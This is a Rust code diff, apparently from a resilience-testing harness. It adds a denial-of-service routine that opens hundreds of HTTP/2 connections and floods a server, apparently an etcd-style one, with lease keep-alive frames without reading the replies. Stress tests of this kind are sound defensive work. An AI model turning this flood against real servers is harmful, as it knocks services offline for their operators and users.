@@ -3,6 +3,9 @@
 use std::io;
 use std::time::Duration;
 
+use api::etcdserverpb::LeaseKeepAliveRequest;
+use prost::Message;
+
 use super::ground::{Ground, Pace};
 use crate::attack::http2::connection::{RawConnection, Reading};
 use crate::attack::http2::frame;
@@ -101,6 +104,30 @@ async fn settings_session(ground: Ground) -> io::Result<()> {
         frame::put_settings(&mut out, &[(frame::INITIAL_WINDOW_SIZE, bytes)]);
     }
     repeat(&ground, &connection, &out, BATCH, FRAMES_PER_SECOND).await
+}
+
+/// Renewals from many connections, whose answers nobody reads. They stay connected while the server reads slowly.
+const RENEWAL_CONNECTIONS: usize = 300;
+const RENEWALS_PER_SECOND: u64 = 5_000;
+
+pub async fn renewals(ground: Ground) {
+    ground.keep(RENEWAL_CONNECTIONS, renewals_session).await;
+}
+
+async fn renewals_session(ground: Ground) -> io::Result<()> {
+    let mut connection = RawConnection::open(ground.client_port(), &[], Reading::Nothing).await?;
+    let renewal = frame::message(&LeaseKeepAliveRequest { id: 7 }.encode_to_vec());
+    let mut out = Vec::new();
+    let stream = connection.put_open_call(&mut out, &frame::call_headers(requests::KEEP_ALIVE), &renewal);
+    connection.send(&out).await?;
+    out.clear();
+    (0..BATCH).for_each(|_| frame::put(&mut out, frame::DATA, 0, stream, &renewal));
+    let mut pace = Pace::new(RENEWALS_PER_SECOND);
+    loop {
+        connection.send(&out).await?;
+        ground.ledger.add_acts(BATCH);
+        pace.take(BATCH).await;
+    }
 }
 
 /// Sends the same frames until the server ends the connection or the attack is over.
